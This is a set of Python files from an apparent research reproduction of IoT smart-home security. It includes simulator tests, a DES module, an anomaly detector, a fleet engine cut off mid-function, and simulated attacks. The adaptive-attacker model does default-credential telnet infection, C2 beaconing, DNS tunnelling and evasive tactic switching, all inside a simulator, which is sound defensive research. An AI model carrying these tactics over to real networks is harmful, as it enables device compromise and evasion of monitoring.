