"""Tests for Simulator.every and kernel determinism properties."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.sim import Interrupt, Simulator
from repro.sim.engine import SimulationError


class TestEvery:
    def test_periodic_execution(self):
        sim = Simulator()
        ticks = []
        sim.every(10.0, lambda: ticks.append(sim.now))
        sim.run(until=35.0)
        assert ticks == [10.0, 20.0, 30.0]

    def test_interrupt_stops_the_loop_cleanly(self):
        sim = Simulator()
        ticks = []
        proc = sim.every(5.0, lambda: ticks.append(sim.now))
        sim.call_in(12.0, lambda: proc.interrupt())
        sim.run(until=40.0)  # no exception escapes
        assert ticks == [5.0, 10.0]
        assert not proc.is_alive

    def test_non_positive_interval_rejected(self):
        sim = Simulator()
        with pytest.raises(SimulationError):
            sim.every(0.0, lambda: None)


class TestKernelDeterminism:
    @given(st.lists(st.floats(min_value=0.001, max_value=100.0),
                    min_size=1, max_size=20),
           st.integers(min_value=0, max_value=1000))
    @settings(max_examples=30, deadline=None)
    def test_event_order_is_total_and_reproducible(self, delays, seed):
        def trace(run_seed):
            sim = Simulator(seed=run_seed)
            order = []
            for index, delay in enumerate(delays):
                sim.timeout(delay).add_callback(
                    lambda ev, i=index: order.append(i))
            sim.run()
            return order

        first = trace(seed)
        assert trace(seed) == first
        # Sorted by (delay, insertion): verify a stable sort.
        expected = [i for _d, i in
                    sorted((d, i) for i, d in enumerate(delays))]
        assert first == expected

    @given(st.lists(st.floats(min_value=0.0, max_value=50.0), max_size=15))
    @settings(max_examples=30, deadline=None)
    def test_clock_is_monotone(self, delays):
        sim = Simulator()
        stamps = []
        for delay in delays:
            sim.timeout(delay).add_callback(lambda ev: stamps.append(sim.now))
        sim.run()
        assert stamps == sorted(stamps)
