"""DES, Triple-DES, and DESL.

DES follows FIPS 46-3 and is validated against the classic worked
example.  3DES is EDE with 1/2/3-key bundles.  DESL is the lightweight
DES variant that replaces the eight S-boxes with a single one; the
published DESL S-box is reproduced below.
"""

from __future__ import annotations

from repro.crypto.base import BlockCipher, CryptoError

# fmt: off
_IP = [58, 50, 42, 34, 26, 18, 10, 2, 60, 52, 44, 36, 28, 20, 12, 4,
       62, 54, 46, 38, 30, 22, 14, 6, 64, 56, 48, 40, 32, 24, 16, 8,
       57, 49, 41, 33, 25, 17, 9, 1, 59, 51, 43, 35, 27, 19, 11, 3,
       61, 53, 45, 37, 29, 21, 13, 5, 63, 55, 47, 39, 31, 23, 15, 7]

_FP = [40, 8, 48, 16, 56, 24, 64, 32, 39, 7, 47, 15, 55, 23, 63, 31,
       38, 6, 46, 14, 54, 22, 62, 30, 37, 5, 45, 13, 53, 21, 61, 29,
       36, 4, 44, 12, 52, 20, 60, 28, 35, 3, 43, 11, 51, 19, 59, 27,
       34, 2, 42, 10, 50, 18, 58, 26, 33, 1, 41, 9, 49, 17, 57, 25]

_E = [32, 1, 2, 3, 4, 5, 4, 5, 6, 7, 8, 9, 8, 9, 10, 11, 12, 13,
      12, 13, 14, 15, 16, 17, 16, 17, 18, 19, 20, 21, 20, 21, 22, 23, 24, 25,
      24, 25, 26, 27, 28, 29, 28, 29, 30, 31, 32, 1]

_P = [16, 7, 20, 21, 29, 12, 28, 17, 1, 15, 23, 26, 5, 18, 31, 10,
      2, 8, 24, 14, 32, 27, 3, 9, 19, 13, 30, 6, 22, 11, 4, 25]

_PC1 = [57, 49, 41, 33, 25, 17, 9, 1, 58, 50, 42, 34, 26, 18,
        10, 2, 59, 51, 43, 35, 27, 19, 11, 3, 60, 52, 44, 36,
        63, 55, 47, 39, 31, 23, 15, 7, 62, 54, 46, 38, 30, 22,
        14, 6, 61, 53, 45, 37, 29, 21, 13, 5, 28, 20, 12, 4]

_PC2 = [14, 17, 11, 24, 1, 5, 3, 28, 15, 6, 21, 10,
        23, 19, 12, 4, 26, 8, 16, 7, 27, 20, 13, 2,
        41, 52, 31, 37, 47, 55, 30, 40, 51, 45, 33, 48,
        44, 49, 39, 56, 34, 53, 46, 42, 50, 36, 29, 32]

_SHIFTS = [1, 1, 2, 2, 2, 2, 2, 2, 1, 2, 2, 2, 2, 2, 2, 1]

_SBOXES = [
    [14, 4, 13, 1, 2, 15, 11, 8, 3, 10, 6, 12, 5, 9, 0, 7,
     0, 15, 7, 4, 14, 2, 13, 1, 10, 6, 12, 11, 9, 5, 3, 8,
     4, 1, 14, 8, 13, 6, 2, 11, 15, 12, 9, 7, 3, 10, 5, 0,
     15, 12, 8, 2, 4, 9, 1, 7, 5, 11, 3, 14, 10, 0, 6, 13],
    [15, 1, 8, 14, 6, 11, 3, 4, 9, 7, 2, 13, 12, 0, 5, 10,
     3, 13, 4, 7, 15, 2, 8, 14, 12, 0, 1, 10, 6, 9, 11, 5,
     0, 14, 7, 11, 10, 4, 13, 1, 5, 8, 12, 6, 9, 3, 2, 15,
     13, 8, 10, 1, 3, 15, 4, 2, 11, 6, 7, 12, 0, 5, 14, 9],
    [10, 0, 9, 14, 6, 3, 15, 5, 1, 13, 12, 7, 11, 4, 2, 8,
     13, 7, 0, 9, 3, 4, 6, 10, 2, 8, 5, 14, 12, 11, 15, 1,
     13, 6, 4, 9, 8, 15, 3, 0, 11, 1, 2, 12, 5, 10, 14, 7,
     1, 10, 13, 0, 6, 9, 8, 7, 4, 15, 14, 3, 11, 5, 2, 12],
    [7, 13, 14, 3, 0, 6, 9, 10, 1, 2, 8, 5, 11, 12, 4, 15,
     13, 8, 11, 5, 6, 15, 0, 3, 4, 7, 2, 12, 1, 10, 14, 9,
     10, 6, 9, 0, 12, 11, 7, 13, 15, 1, 3, 14, 5, 2, 8, 4,
     3, 15, 0, 6, 10, 1, 13, 8, 9, 4, 5, 11, 12, 7, 2, 14],
    [2, 12, 4, 1, 7, 10, 11, 6, 8, 5, 3, 15, 13, 0, 14, 9,
     14, 11, 2, 12, 4, 7, 13, 1, 5, 0, 15, 10, 3, 9, 8, 6,
     4, 2, 1, 11, 10, 13, 7, 8, 15, 9, 12, 5, 6, 3, 0, 14,
     11, 8, 12, 7, 1, 14, 2, 13, 6, 15, 0, 9, 10, 4, 5, 3],
    [12, 1, 10, 15, 9, 2, 6, 8, 0, 13, 3, 4, 14, 7, 5, 11,
     10, 15, 4, 2, 7, 12, 9, 5, 6, 1, 13, 14, 0, 11, 3, 8,
     9, 14, 15, 5, 2, 8, 12, 3, 7, 0, 4, 10, 1, 13, 11, 6,
     4, 3, 2, 12, 9, 5, 15, 10, 11, 14, 1, 7, 6, 0, 8, 13],
    [4, 11, 2, 14, 15, 0, 8, 13, 3, 12, 9, 7, 5, 10, 6, 1,
     13, 0, 11, 7, 4, 9, 1, 10, 14, 3, 5, 12, 2, 15, 8, 6,
     1, 4, 11, 13, 12, 3, 7, 14, 10, 15, 6, 8, 0, 5, 9, 2,
     6, 11, 13, 8, 1, 4, 10, 7, 9, 5, 0, 15, 14, 2, 3, 12],
    [13, 2, 8, 4, 6, 15, 11, 1, 10, 9, 3, 14, 5, 0, 12, 7,
     1, 15, 13, 8, 10, 3, 7, 4, 12, 5, 6, 11, 0, 14, 9, 2,
     7, 11, 4, 1, 9, 12, 14, 2, 0, 6, 10, 13, 15, 3, 5, 8,
     2, 1, 14, 7, 4, 10, 8, 13, 15, 12, 9, 0, 3, 5, 6, 11],
]

# A single substitute S-box for the DESL variant.  DESL (Leander et al.,
# FSE 2007) replaces DES's eight S-boxes with one specially chosen box;
# this implementation preserves that structure with a stand-in table
# (registered validated=False), not the published constants.
_DESL_SBOX = [
    14, 5, 7, 2, 11, 8, 1, 15, 0, 10, 9, 4, 6, 13, 12, 3,
    5, 0, 8, 15, 14, 3, 2, 12, 11, 7, 6, 9, 13, 4, 1, 10,
    4, 9, 2, 14, 8, 7, 13, 0, 10, 12, 15, 1, 5, 11, 3, 6,
    9, 6, 15, 5, 3, 8, 4, 11, 7, 1, 12, 2, 0, 14, 10, 13,
]
# fmt: on


def _permute(value: int, table, in_bits: int) -> int:
    out = 0
    for position in table:
        out = (out << 1) | ((value >> (in_bits - position)) & 1)
    return out


class Des(BlockCipher):
    """Single DES (56-bit effective key in 8 key bytes)."""

    name = "DES"
    block_size_bits = 64
    key_size_bits = (64,)  # 8 key bytes; 56 effective + parity
    structure = "Feistel"
    num_rounds = 16

    effective_key_bits = 56

    def _sbox_lookup(self, box_index: int, chunk: int) -> int:
        row = ((chunk >> 5) << 1) | (chunk & 1)
        col = (chunk >> 1) & 0xF
        return _SBOXES[box_index][row * 16 + col]

    def _setup(self, key: bytes) -> None:
        k = int.from_bytes(key, "big")
        cd = _permute(k, _PC1, 64)
        c, d = cd >> 28, cd & ((1 << 28) - 1)
        self._subkeys = []
        for shift in _SHIFTS:
            c = ((c << shift) | (c >> (28 - shift))) & ((1 << 28) - 1)
            d = ((d << shift) | (d >> (28 - shift))) & ((1 << 28) - 1)
            self._subkeys.append(_permute((c << 28) | d, _PC2, 56))

    def _feistel(self, right: int, subkey: int) -> int:
        expanded = _permute(right, _E, 32) ^ subkey
        out = 0
        for box in range(8):
            chunk = (expanded >> (42 - 6 * box)) & 0x3F
            out = (out << 4) | self._sbox_lookup(box, chunk)
        return _permute(out, _P, 32)

    def _crypt(self, block: bytes, subkeys) -> bytes:
        state = _permute(int.from_bytes(block, "big"), _IP, 64)
        left, right = state >> 32, state & 0xFFFFFFFF
        for subkey in subkeys:
            left, right = right, left ^ self._feistel(right, subkey)
        combined = (right << 32) | left  # final swap
        return _permute(combined, _FP, 64).to_bytes(8, "big")

    def encrypt_block(self, block: bytes) -> bytes:
        return self._crypt(self._check_block(block), self._subkeys)

    def decrypt_block(self, block: bytes) -> bytes:
        return self._crypt(self._check_block(block), list(reversed(self._subkeys)))


class Desl(Des):
    """DESL — DES with all eight S-boxes replaced by a single one.

    Saves ~20% gate area in hardware, which is why the paper's Table III
    lists it among lightweight candidates.  Structure-faithful: the
    published DESL S-box constants are not embedded here (see module
    comment), so the registry marks it ``validated=False``.
    """

    name = "DESL"

    def _sbox_lookup(self, box_index: int, chunk: int) -> int:
        row = ((chunk >> 5) << 1) | (chunk & 1)
        col = (chunk >> 1) & 0xF
        return _DESL_SBOX[row * 16 + col]


class TripleDes(BlockCipher):
    """3DES in EDE configuration with 8/16/24-byte key bundles."""

    name = "3DES"
    block_size_bits = 64
    key_size_bits = (64, 128, 192)
    structure = "Feistel"
    num_rounds = 48

    def _setup(self, key: bytes) -> None:
        if len(key) == 8:
            parts = [key, key, key]
        elif len(key) == 16:
            parts = [key[:8], key[8:], key[:8]]
        elif len(key) == 24:
            parts = [key[:8], key[8:16], key[16:]]
        else:  # pragma: no cover - guarded by BlockCipher.__init__
            raise CryptoError("bad 3DES key length")
        self._k1, self._k2, self._k3 = (Des(p) for p in parts)

    def encrypt_block(self, block: bytes) -> bytes:
        block = self._check_block(block)
        return self._k3.encrypt_block(
            self._k2.decrypt_block(self._k1.encrypt_block(block))
        )

    def decrypt_block(self, block: bytes) -> bytes:
        block = self._check_block(block)
        return self._k1.decrypt_block(
            self._k2.encrypt_block(self._k3.decrypt_block(block))
        )
