"""Event spoofing (Fernandes et al.; paper §IV-C.2).

"Since the integrity of the events is not protected, malicious actors
could easily launch spoofing event attacks."  A LAN attacker raises
events for a victim device id — e.g. convincing the platform the lock
reported "locked" while the door stands open, or faking motion to
trigger automations.
"""

from __future__ import annotations

from typing import Optional

from repro.attacks.base import Attack, AttackOutcome
from repro.scenarios.spec import register_attack
from repro.network.node import Node
from repro.network.packet import Packet
from repro.service.cloud import CloudPlatform


@register_attack
class EventSpoofing(Attack):
    name = "event-spoofing"
    surface_layers = ("service", "network")
    table_ii_row = (
        "Unprotected event integrity",
        "Forged device events injected at the platform",
        "Automations act on attacker-chosen state",
    )

    def __init__(self, home, target_device_name: Optional[str] = None,
                 spoofed_attribute: str = "state",
                 spoofed_value: str = "unlocked",
                 repetitions: int = 3,
                 interval_s: float = 5.0):
        super().__init__(home)
        self.target = (home.device(target_device_name)
                       if target_device_name
                       else home.devices_of_type("smart_lock")[0])
        self.spoofed_attribute = spoofed_attribute
        self.spoofed_value = spoofed_value
        self.repetitions = repetitions
        self.interval_s = interval_s
        lan = self.target.interfaces[0].link
        self.attacker = Node(self.sim, "event-spoofer")
        self.attacker.add_interface(lan, home.gateway.assign_address())
        self.sent = 0

    def _launch(self) -> None:
        self.sim.process(self._spoof_loop(), name="event-spoofer")

    def _spoof_loop(self):
        device_id = self.home.device_ids[self.target.name]
        for _ in range(self.repetitions):
            self.attacker.send(Packet(
                src="", dst=self.home.vendor_addresses[
                    self.target.spec.cloud_hostname],
                sport=4444, dport=CloudPlatform.DEVICE_PORT,
                protocol="tcp", app_protocol="mqtts",
                size_bytes=self.target.spec.event_size_bytes,
                payload={"kind": "event", "device_id": device_id,
                         "attribute": self.spoofed_attribute,
                         "value": self.spoofed_value},
            ))
            self.sent += 1
            yield self.sim.timeout(self.interval_s)

    def outcome(self) -> AttackOutcome:
        device_id = self.home.device_ids[self.target.name]
        shadow = self.home.cloud.handler(device_id).shadow_state
        fooled = shadow == self.spoofed_value and \
            self.target.state != self.spoofed_value
        accepted = any(
            e.device_id == device_id and e.value == self.spoofed_value
            and not e.authentic
            for e in self.home.cloud.bus.events_published
        )
        return AttackOutcome(
            succeeded=fooled or accepted,
            compromised_devices={self.target.name} if (fooled or accepted)
            else set(),
            details={"events_sent": self.sent, "shadow_state": shadow,
                     "accepted_by_bus": accepted},
        )
