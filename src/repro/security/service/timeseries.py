"""Time-series modeling for application verification (paper §IV-C.2).

"By employing machine learning techniques, such as time series
modeling, the XLF Core could verify that the applications are executing
correctly."  A per-signal AR(p) model fit by least squares on a sliding
history; observations whose one-step prediction error exceeds a
residual-scaled threshold are anomalous.  Catches *gradual* tampering
(the heat attack's steady ramp) that per-sample z-scores miss until far
too late, and oscillation injected by a misbehaving automation.
"""

from __future__ import annotations

from collections import deque
from typing import Deque, Dict, List, Optional, Tuple

import numpy as np


class ArModel:
    """An order-``p`` autoregressive one-step predictor."""

    def __init__(self, order: int = 3, history: int = 64,
                 threshold_sigmas: float = 4.0,
                 min_samples: int = 12):
        if order < 1:
            raise ValueError("AR order must be >= 1")
        if history <= order + 2:
            raise ValueError("history must exceed order + 2")
        self.order = order
        self.threshold_sigmas = threshold_sigmas
        self.min_samples = min_samples
        self._values: Deque[float] = deque(maxlen=history)
        self._coefficients: Optional[np.ndarray] = None
        self._residual_std: float = 0.0
        self.observations = 0
        self.anomalies = 0

    def _refit(self) -> None:
        values = np.asarray(self._values, dtype=float)
        p = self.order
        if len(values) < max(self.min_samples, p + 2):
            self._coefficients = None
            return
        # Design matrix of lagged windows -> next value: one strided
        # view instead of a per-lag copy loop (row r is values[r:r+p],
        # exactly the columns the loop filled).
        rows = len(values) - p
        design = np.empty((rows, p + 1))
        design[:, 0] = 1.0
        design[:, 1:] = np.lib.stride_tricks.sliding_window_view(
            values, p)[:rows]
        targets = values[p:]
        coefficients, *_ = np.linalg.lstsq(design, targets, rcond=None)
        predictions = design @ coefficients
        residuals = targets - predictions
        self._coefficients = coefficients
        self._residual_std = float(np.std(residuals)) if rows > 1 else 0.0

    def predict_next(self) -> Optional[float]:
        """One-step forecast, or None before enough data."""
        if self._coefficients is None or len(self._values) < self.order:
            return None
        features = np.empty(self.order + 1)
        features[0] = 1.0
        features[1:] = np.asarray(self._values, dtype=float)[-self.order:]
        return float(features @ self._coefficients)

    def observe(self, value: float) -> Tuple[bool, Optional[float]]:
        """Feed a sample; returns (is_anomalous, prediction_error)."""
        self.observations += 1
        prediction = self.predict_next()
        anomalous = False
        error = None
        if prediction is not None:
            error = value - prediction
            # Floors keep near-constant signals from flagging on noise:
            # an absolute epsilon plus 0.5% of the signal magnitude.
            scale = max(self._residual_std, 1e-3,
                        0.005 * abs(prediction))
            if abs(error) > self.threshold_sigmas * scale:
                anomalous = True
                self.anomalies += 1
        self._values.append(value)
        self._refit()
        return anomalous, error


class TelemetryForecaster:
    """AR models per (device, attribute), for the analytics pipeline."""

    def __init__(self, order: int = 3, threshold_sigmas: float = 4.0):
        self.order = order
        self.threshold_sigmas = threshold_sigmas
        self._models: Dict[Tuple[str, str], ArModel] = {}
        self.flagged: List[Tuple[str, str, float]] = []

    def observe(self, device_id: str, attribute: str,
                value: float) -> bool:
        key = (device_id, attribute)
        model = self._models.get(key)
        if model is None:
            model = ArModel(order=self.order,
                            threshold_sigmas=self.threshold_sigmas)
            self._models[key] = model
        anomalous, error = model.observe(value)
        if anomalous:
            self.flagged.append((device_id, attribute,
                                 float(error if error is not None else 0.0)))
        return anomalous

    def model_for(self, device_id: str, attribute: str) -> Optional[ArModel]:
        return self._models.get((device_id, attribute))
