"""Adaptive attacker: observes XLF's responses, switches tactics.

The paper's response engine (quarantine at the gateway, kill the bot,
close telnet) assumes a static adversary.  This one isn't: each epoch
it inspects the world for evidence of mitigation — firewall blocks
involving its traffic, its bot disinfected — and escalates down a
tactic ladder, from a loud phase (plaintext C2 beacons plus a
propagation scan, the classic bot signature XLF correlates) to a DNS
tunnel to a low-and-slow encrypted trickle.  Tactic switches are
broadcast over the exchange so the whole fleet campaign adapts
together: once any home's XLF burns a tactic, every home abandons it
at the next epoch boundary.
"""

from __future__ import annotations

from typing import List, Set

from repro.attacks.base import Attack, AttackOutcome
from repro.attacks.worm import _WanIngressNode
from repro.scenarios.spec import register_attack
from repro.device.device import IoTDevice
from repro.device.os import DEFAULT_CREDENTIALS
from repro.network.packet import Packet

TACTICS = ("loud-c2", "dns-tunnel", "low-slow")


@register_attack
class AdaptiveAttacker(Attack):
    """Escalating C2 campaign that reacts to blocks and quarantines."""

    name = "adaptive-attacker"
    cross_home = True
    surface_layers = ("network", "service")
    table_ii_row = (
        "Static mitigation playbooks",
        "Response-aware tactic switching (C2, DNS tunnel, low-and-slow)",
        "Detection/mitigation outpaced by adaptation",
    )

    C2_ADDRESS = "198.18.0.77"
    DNS_ADDRESS = "198.51.100.2"   # the public resolver (allowlisted)

    def __init__(self, home, beacons_per_epoch: int = 6,
                 credentials: int = 4):
        super().__init__(home)
        self.beacons_per_epoch = beacons_per_epoch
        self.credentials = credentials
        self.tactic = 0
        self.switches = 0
        self.blocked_observed = 0
        self.replants = 0
        self.beacons_sent = {tactic: 0 for tactic in TACTICS}
        self.tactics_used: List[str] = []
        self._blocked_seen = 0
        self._bot_names: Set[str] = set()
        self._burned: Set[str] = set()
        self._planting = False
        lan = next(iter(home.lan_links.values()))
        self.ingress = _WanIngressNode(self.sim, name="adaptive-ingress")
        self.ingress.add_interface(lan, home.gateway.assign_address())

    # -- lifecycle ---------------------------------------------------------
    def _launch(self) -> None:
        self.fleet.on("tactic-advice", self._on_advice)
        if self.is_origin:
            self.sim.process(self._plant_bot(), name="adaptive:plant")
        self.sim.process(self._campaign_loop(), name="adaptive:campaign")

    def _plant_bot(self):
        """Conscript the weakest still-vulnerable device on the LAN.

        Re-entrant on purpose: when XLF burns a bot (disinfect + rotated
        credentials + closed telnet), the campaign plants a fresh one on
        a sibling device the response didn't harden.
        """
        if self._planting:
            return
        self._planting = True
        try:
            for device in list(self.home.devices):
                if any(d.infected for d in self.home.devices):
                    return
                if device.name in self._burned:
                    continue   # hardened by the response engine
                for username, password in \
                        DEFAULT_CREDENTIALS[:self.credentials]:
                    self.ingress.send(Packet(
                        src="", dst=device.address,
                        sport=48102, dport=IoTDevice.TELNET_PORT,
                        protocol="tcp", app_protocol="telnet",
                        size_bytes=60,
                        payload={"username": username, "password": password,
                                 "action": "infect",
                                 "payload": "adaptive-bot"},
                    ))
                    yield self.sim.timeout(0.2)
                    if device.infected:
                        return
        finally:
            self._planting = False

    # -- the adaptive loop -------------------------------------------------
    def _campaign_loop(self):
        while True:
            yield self.sim.timeout(self.fleet.epoch_s)
            bots = sorted((d for d in self.home.devices if d.infected),
                          key=lambda d: d.name)
            if bots:
                self._bot_names.update(d.name for d in bots)
                tactic = TACTICS[self.tactic]
                if not self.tactics_used or self.tactics_used[-1] != tactic:
                    self.tactics_used.append(tactic)
                self._beacon_burst(bots[0], tactic)
            elif (self.is_origin and self._bot_names
                  and not self._planting):
                # The campaign had a foothold here and lost it: replant
                # on a device the response engine didn't harden.
                self.replants += 1
                self.sim.process(self._plant_bot(),
                                 name="adaptive:replant")
            self._observe_and_adapt()

    def _beacon_burst(self, device, tactic: str) -> None:
        if tactic == "loud-c2":
            # The loud phase also propagates: a telnet probe sweep over
            # distinct LAN addresses — the scan pattern XLF's activity
            # detector correlates with the C2 keywords into a
            # botnet-infection alert.  The quieter tactics drop it.
            for i in range(10):
                device.send(Packet(
                    src="", dst=f"10.0.0.{200 + i}", sport=31337,
                    dport=IoTDevice.TELNET_PORT, protocol="tcp",
                    app_protocol="telnet", size_bytes=60,
                    payload={"username": "admin", "password": "admin"},
                ))
        for i in range(self.beacons_per_epoch if tactic != "low-slow"
                       else 1):
            if tactic == "loud-c2":
                packet = Packet(
                    src="", dst=self.C2_ADDRESS, sport=31337, dport=443,
                    protocol="tcp", app_protocol="https", size_bytes=90,
                    payload={"report":
                             "adaptive loader beacon c2.evil attack ready"},
                    encrypted=False,
                )
            elif tactic == "dns-tunnel":
                packet = Packet(
                    src="", dst=self.DNS_ADDRESS, sport=31337, dport=53,
                    protocol="udp", app_protocol="dns", size_bytes=70,
                    payload={"query":
                             f"x{i:02d}.{device.name}.tunnel.example"},
                    encrypted=False,
                )
            else:   # low-slow: one small encrypted packet per epoch
                packet = Packet(
                    src="", dst=self.C2_ADDRESS, sport=31337, dport=443,
                    protocol="tcp", app_protocol="https", size_bytes=64,
                    payload={"t": i},
                    encrypted=True,
                )
            device.send(packet)
            self.beacons_sent[tactic] += 1

    def _observe_and_adapt(self) -> None:
        """Epoch-boundary reconnaissance: did XLF push back?"""
        gateway = self.home.gateway
        fresh = gateway.blocked_packets[self._blocked_seen:]
        self._blocked_seen = len(gateway.blocked_packets)
        ours = sum(1 for packet in fresh
                   if packet.dst == self.C2_ADDRESS
                   or packet.src_device in self._bot_names)
        burned = {name for name in sorted(self._bot_names)
                  if name not in self._burned
                  and not self.home.device(name).infected}
        self._burned |= burned
        if not ours and not burned:
            return
        self.blocked_observed += ours
        if self.tactic < len(TACTICS) - 1:
            self._adopt(self.tactic + 1)
            if self.fleet.n_homes > 1:
                self.fleet.broadcast("tactic-advice",
                                     {"tactic": self.tactic})

    def _adopt(self, tactic: int) -> None:
        if tactic > self.tactic:
            self.tactic = tactic
            self.switches += 1

    def _on_advice(self, message) -> None:
        """A sibling home burned a tactic; abandon it here too."""
        self._adopt(int(message.payload.get("tactic", 0)))

    # -- ground truth ------------------------------------------------------
    def outcome(self) -> AttackOutcome:
        prefix = f"home{self.fleet.home_index:02d}/"
        return AttackOutcome(
            succeeded=any(self.beacons_sent.values()),
            compromised_devices={prefix + name
                                 for name in self._bot_names},
            details={f"home{self.fleet.home_index:02d}": {
                "tactics_used": list(self.tactics_used),
                "switches": self.switches,
                "blocked_observed": self.blocked_observed,
                "replants": self.replants,
                "burned_bots": sorted(self._burned),
                "beacons_sent": dict(self.beacons_sent),
            }},
        )
