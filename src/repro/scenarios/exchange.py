"""Lockstep-epoch fleet engine: cross-home exchange, deterministically.

Cross-home attacks (worm spread, coordinated DDoS, adaptive campaigns)
break the one-home-at-a-time fleet model: home 3's next epoch depends
on what home 0 sent it.  This engine advances *every* home by a fixed
sim-time epoch, drains each home's
:class:`~repro.network.internet.WanExchangePort` outbox at the barrier,
routes the messages in one deterministic global order — sorted by
``(epoch, src_home, seq)`` — and injects them into their destination
homes before the next epoch begins.

Determinism contract (what the tests pin down):

* **Serial == parallel == any shard layout.**  Routing happens in the
  parent in every mode; each home is an independent simulator seeded
  from ``spec.seed + index`` whose inputs are exactly its epoch-bounded
  inbound message lists.  Shards are pure transport.
* **Crash recovery is replay, not retry-with-drift.**  The parent
  journals every epoch's routed inbound per home, so when a forked
  shard dies its homes are rebuilt in-process and *replayed* through
  the journal — regenerating the lost epoch's outbound bit-for-bit —
  then the lockstep continues.  Homes that lived through a replay are
  flagged ``degraded`` exactly like the fast path's worker-retry.
* **Single-home specs never come here** — ``run_spec`` dispatches to
  this engine only when a multi-home spec schedules a cross-home
  attack; everything else stays on the no-epoch fast path.
"""

from __future__ import annotations

import multiprocessing
import os
from typing import Callable, Dict, List, Optional, Set, Tuple

from repro.network.internet import CrossHomeMessage, WanExchangePort
from repro.scenarios.prototype import PROTOTYPES
from repro.scenarios.spec import (
    HomeRunResult,
    ScenarioResult,
    ScenarioSpec,
    SpecError,
    _finalise_home_telemetry,
    _HomeExecution,
    _merge_home,
    fork_available,
)
from repro import telemetry as _telemetry
from repro.telemetry import MetricsRegistry

# One epoch's routed traffic: destination home -> ordered message list.
Inbound = Dict[int, List[CrossHomeMessage]]
# One home's epoch output: (drained outbox, infected-device count).
EpochOutput = Tuple[List[CrossHomeMessage], int]


class ShardCrash(RuntimeError):
    """A forked shard died or reported a failure mid-epoch."""


def _epoch_boundaries(spec: ScenarioSpec) -> List[float]:
    """Absolute sim times every home advances to, epoch by epoch.

    The last boundary is exactly ``warmup_s + duration_s`` (no float
    accumulation past the end), and the list is computed from the spec
    alone so every shard — and every crash replay — sees identical
    boundaries.
    """
    end = spec.warmup_s + spec.duration_s
    boundaries: List[float] = []
    t = spec.warmup_s
    while True:
        t += spec.epoch_s
        if t >= end - 1e-9:
            boundaries.append(end)
            return boundaries
        boundaries.append(t)


class _EpochShard:
    """A set of homes advanced in lockstep inside one process.

    Used three ways: as the single serial shard, as the body of a
    forked shard process, and as the in-parent replacement that replays
    a crashed shard's homes from the inbound journal.
    """

    def __init__(self, spec: ScenarioSpec, indices: List[int]):
        self.spec = spec
        self.indices = list(indices)
        self._boundaries = _epoch_boundaries(spec)
        self._execs: Dict[int, _HomeExecution] = {}
        self._locals: Dict[int, Optional[MetricsRegistry]] = {}

    def prepare(self) -> None:
        for index in self.indices:
            local = MetricsRegistry() if _telemetry.ENABLED else None
            port = WanExchangePort(index, len(self.spec.homes),
                                   self.spec.epoch_s)
            execution = _HomeExecution(self.spec, index, port=port,
                                       registry=local)
            execution.arm()
            self._execs[index] = execution
            self._locals[index] = local

    def advance(self, epoch: int, inbound: Inbound) -> Dict[int, EpochOutput]:
        """Deliver the epoch's inbound, run to the boundary, drain."""
        until = self._boundaries[epoch]
        outputs: Dict[int, EpochOutput] = {}
        for index in self.indices:
            execution = self._execs[index]
            for message in inbound.get(index, ()):
                execution.deliver(message)
            execution.advance(until)
            outputs[index] = (execution.drain(epoch),
                              execution.infected_count())
        return outputs

    def finish(self) -> List[HomeRunResult]:
        results = []
        for index in self.indices:
            execution = self._execs[index]
            result, end_time = execution.finish()
            local = self._locals[index]
            if local is not None:
                _finalise_home_telemetry(result, local, end_time)
            results.append(result)
        return results


# Test seam: called in the forked shard process before each epoch's
# advance.  Resilience tests monkeypatch this (the patch rides into the
# shard via fork) to kill a shard mid-fleet; the in-parent replay path
# bypasses it, mirroring spec._worker_crash_hook.
def _shard_crash_hook(epoch: int, indices: List[int]) -> None:
    return None


def _shard_main(spec: ScenarioSpec, indices: List[int], conn) -> None:
    """Forked shard body: a request/reply loop over one pipe."""
    try:
        shard = _EpochShard(spec, indices)
        shard.prepare()
        while True:
            request = conn.recv()
            if request[0] == "advance":
                _, epoch, inbound = request
                _shard_crash_hook(epoch, indices)
                conn.send(("out", shard.advance(epoch, inbound)))
            elif request[0] == "finish":
                conn.send(("results", shard.finish()))
                return
    except EOFError:
        return
    except BaseException as exc:  # surface the failure; parent replays
        try:
            conn.send(("error", repr(exc)))
        except OSError:
            pass
    finally:
        conn.close()


class _ForkedShard:
    """Parent-side handle driving one forked :class:`_EpochShard`."""

    def __init__(self, context, spec: ScenarioSpec, indices: List[int]):
        self.indices = list(indices)
        self._conn, child_conn = context.Pipe()
        self.process = context.Process(
            target=_shard_main, args=(spec, self.indices, child_conn))
        self.process.start()
        child_conn.close()

    def _request(self, message, expected: str):
        try:
            self._conn.send(message)
            reply = self._conn.recv()
        except (EOFError, OSError) as exc:
            raise ShardCrash(
                f"shard {self.indices} died mid-exchange") from exc
        if reply[0] != expected:
            raise ShardCrash(f"shard {self.indices} failed: {reply[1]}")
        return reply[1]

    def advance(self, epoch: int, inbound: Inbound) -> Dict[int, EpochOutput]:
        return self._request(("advance", epoch, inbound), "out")

    def finish(self) -> List[HomeRunResult]:
        return self._request(("finish",), "results")

    def close(self) -> None:
        try:
            self._conn.close()
        except OSError:
            pass
        self.process.join(timeout=10)
        if self.process.is_alive():
            self.process.terminate()
            self.process.join(timeout=10)


class _LocalShard:
    """Uniform handle around an in-parent :class:`_EpochShard` (serial
    mode and crash replays); never calls the crash hook."""

    def __init__(self, spec: ScenarioSpec, indices: List[int]):
        self.indices = list(indices)
        self._shard = _EpochShard(spec, indices)
        self._shard.prepare()

    def advance(self, epoch: int, inbound: Inbound) -> Dict[int, EpochOutput]:
        return self._shard.advance(epoch, inbound)

    def finish(self) -> List[HomeRunResult]:
        return self._shard.finish()

    def close(self) -> None:
        return None


def _shard_layout(n_homes: int, workers: int) -> List[List[int]]:
    """Contiguous near-equal blocks, one per worker (results are
    layout-independent — tests run several layouts to prove it)."""
    n_shards = min(workers, n_homes)
    layout = []
    for shard in range(n_shards):
        start = shard * n_homes // n_shards
        stop = (shard + 1) * n_homes // n_shards
        layout.append(list(range(start, stop)))
    return layout


def _replay_shard(spec: ScenarioSpec, indices: List[int],
                  journal: List[Inbound], upto_epoch: int,
                  ) -> Tuple[_LocalShard, Dict[int, EpochOutput]]:
    """Rebuild a crashed shard's homes in-parent and replay them
    through the journalled inbound up to (and including) ``upto_epoch``.

    Replay is deterministic — the journal holds every input the lost
    homes ever consumed — so the returned epoch output is bit-for-bit
    what the dead shard would have produced.
    """
    if _telemetry.ENABLED:
